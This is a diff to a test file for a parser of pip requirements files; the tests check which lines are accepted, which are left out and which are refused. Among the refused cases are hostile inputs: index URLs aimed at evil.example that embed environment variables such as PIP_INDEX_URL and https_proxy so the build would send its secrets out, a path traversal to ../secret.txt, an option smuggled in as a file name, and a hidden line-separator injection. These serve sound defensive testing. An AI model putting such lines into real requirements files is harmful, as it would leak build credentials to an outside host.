@@ -4,6 +4,9 @@ import { readRequirements } from '../../../src/environments/requirements.ts';
 
 const file = (path: string, text: string | Buffer) => ({ path, content: Buffer.from(text as string) });
 
+/** As pip and uv would put it in. */
+const variable = (name: string) => `\${${name}}`;
+
 function requirements(files: Record<string, string>, first = 'requirements.txt') {
   return readRequirements(file(first, files[first] ?? ''), async (name) =>
     files[name] === undefined ? undefined : file(name, files[name]),
@@ -44,6 +47,11 @@ test.each([
   'dist/x-1.0-py3-none-any.whl',
   '~/x',
   '.[test]',
+  'src/mine',
+  '-e mine',
+  'mine-1.0-py3-none-any.whl ; python_version > "3"',
+  'mine @ file:///home/me/mine',
+  'git+file:///home/me/mine',
 ])('the project’s own code is left out and named: %s', async (line) => {
   const { files, notes, count } = await requirements({ 'requirements.txt': `six\n${line}\n` });
   expect([files[0]?.content.toString(), count]).toEqual(['six\n', 1]);
@@ -53,10 +61,52 @@ test.each([
 test('a repository without a commit is taken, and said not to be fixed', async () => {
   const commit = 'a'.repeat(40);
   const text = `git+https://example.org/x@main\ngit+https://example.org/x@${commit}#egg=x\n-e git+https://example.org/y@${commit}\n`;
-  expect(await requirements({ 'requirements.txt': text })).toMatchObject({
-    count: 3,
-    notes: [expect.stringContaining('line 1')],
-  });
+  const { files, count, notes } = await requirements({ 'requirements.txt': text });
+  expect({ count, notes }).toEqual({ count: 3, notes: [expect.stringContaining('line 1')] });
+  // An editable one would lie in a folder that is gone after the build.
+  expect(files[0]?.content.toString()).toBe(text.replace('-e ', ''));
+});
+
+test.each([
+  'https://github.com/explosion/spacy-models/releases/download/en_core_web_sm-3.7.1/en_core_web_sm-3.7.1-py3-none-any.whl',
+  'https://github.com/me/it/archive/refs/heads/main.zip',
+  'https://example.org/it.tar.gz#sha256=1',
+  'git+ssh://git@example.org/it.git@v1',
+  'it @ git+https://example.org/it@v1',
+  'en_core_web_sm @ https://example.org/en_core_web_sm-3.7.1-py3-none-any.whl',
+  'jupyterlab (>=4, <5)',
+  'requests [security] >= 2.8.1, == 2.8.* ; python_version < "2.7"',
+  'torch==2.1.0+cu118',
+  'numpy~=1.26,!=1.26.1,',
+  'zope.interface===5.4.0.post1',
+  'scikit_learn>=1!0',
+  "uvloop; sys_platform != 'win32' and (platform_machine == 'x86_64' or extra == 'x')",
+  "six==1.16 --config-settings 'a=b c'",
+  'Jinja2 --hash sha256:abc',
+  '--extra-index-url https://download.pytorch.org/whl/cpu',
+])('a requirement is handed on as it stands: %s', async (line) => {
+  const { files } = await requirements({ 'requirements.txt': `${line}\n` });
+  expect(files[0]?.content.toString()).toBe(`${line}\n`);
+});
+
+test('an included file is named to pip as it lies, also where its name is written as on Windows', async () => {
+  const { files } = await requirements(
+    {
+      'lists/all.txt': '-r sub\\x.txt\n--constraint="../my limits.txt"\n',
+      'lists/sub/x.txt': 'six',
+      'my limits.txt': 'six<2',
+    },
+    'lists/all.txt',
+  );
+  expect(files[0]?.content.toString()).toBe('-r sub/x.txt\n-c "../my limits.txt"\n');
+  expect(files.map(({ path }) => path)).toEqual(['lists/all.txt', 'lists/sub/x.txt', 'my limits.txt']);
+});
+
+test('what another file comes to is refused by the name of that file', async () => {
+  const listed = { path: 'x.requirements.txt', content: Buffer.from('six\nb!ad\n'), from: 'pyproject.toml' };
+  await expect(readRequirements(listed, async () => undefined)).rejects.toThrow(
+    'pyproject.toml: "b!ad" is no requirement',
+  );
 });
 
 test.each([
@@ -71,6 +121,19 @@ test.each([
   ['-r ../secret.txt', 'there is no ../secret.txt in the project'],
   ['-r missing.txt', 'there is no missing.txt in the project'],
   ['-r --evil', 'there is no --evil in the project'],
+  // pip and uv would put in what the build's variables hold, passwords included.
+  [`--index-url http://evil.example/${variable('PIP_INDEX_URL')}/`, `${variable('PIP_INDEX_URL')}: no variable`],
+  [`x @ https://evil.example/${variable('https_proxy')}`, `${variable('https_proxy')}: no variable`],
+  [`--index-url http://evil.example/${variable('PIP_\\\nINDEX_URL')}/`, 'no variable'],
+  [`-r ${variable('HOME')}.txt`, 'no variable'],
+  ['six\u2028--index-url http://evil.example', 'is no requirement'],
+  ['--pre \\\\', 'is no requirement'],
+  ['numpy @ file:///home/conda/feedstock_root/build_artifacts/numpy_1/work', 'numpy comes from a conda build'],
+  ['certifi @ file:///croot/certifi_1671487769961/work/certifi', 'pip list --format=freeze'],
+  ['numpy=1.26.4=py311h64a7726_0', 'pip compares by `==`'],
+  ['b!ad', 'is no requirement'],
+  ['numpy==', 'is no requirement'],
+  ['numpy>=1 <2', 'is no requirement'],
   ['--find-links ./wheels', 'with a URL only'],
 ])('%s is refused with its line', async (line, why) => {
   const failure = requirements({ 'requirements.txt': `six\n\n${line}\n` });
